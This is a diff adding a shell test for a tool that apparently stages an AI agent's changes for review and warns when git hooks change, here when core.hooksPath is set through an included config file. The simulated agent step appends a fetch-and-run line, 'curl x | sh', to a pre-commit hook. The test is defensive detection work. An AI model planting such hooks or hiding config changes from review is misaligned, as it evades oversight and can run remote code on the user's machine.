@@ -2476,6 +2476,28 @@ if command -v git >/dev/null; then
     eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook" or .warning == "git_config") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn4b.json")" \
         ".git/config=git_config,.husky/pre-commit=git_hook" \
         "review warns of changes in the hooks directory the stage's own .git/config names (core.hooksPath), not only the workspace's"
+    # ... also when it names it through an included file (found by the
+    # day's reviewer: 'git config --file' does not follow includes, and
+    # a relative one cannot be resolved from /dev/fd): a config that
+    # includes files may name any hooks directory, so a changed file
+    # with a hook's name anywhere is warned of; other files are not
+    for how in stage workspace; do
+        W=$T/wswarn4c-$how
+        mkdir -p "$W/.githooks" && (cd "$W" && git init -q .) &&
+            printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
+            printf 'x\n' > "$W/.githooks/notes.txt"
+        # the include made by the agent (stage), or already the user's, of
+        # a file the agent writes (workspace)
+        [ "$how" = workspace ] && printf '[include]\n\tpath = ../.gitcfg\n' >> "$W/.git/config"
+        (cd "$W" && "$P" run --stage auto -- sh -c '[ -f .gitcfg ] || true
+            grep -q gitcfg .git/config || printf "[include]\n\tpath = ../.gitcfg\n" >> .git/config
+            printf "[core]\n\thooksPath = .githooks\n" > .gitcfg
+            echo "curl x | sh" >> .githooks/pre-commit; echo y >> .githooks/notes.txt') >/dev/null 2>&1
+        (cd "$W" && "$P" status --review --json) > "$T/warn4c.json"
+        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn4c.json")" \
+            ".githooks/pre-commit" \
+            "  and when it names it through a file the $how config includes: a changed file with a hook's name is warned of"
+    done
 else
     skip "review warns of changes in the stage's core.hooksPath directory" "git is not installed"
 fi
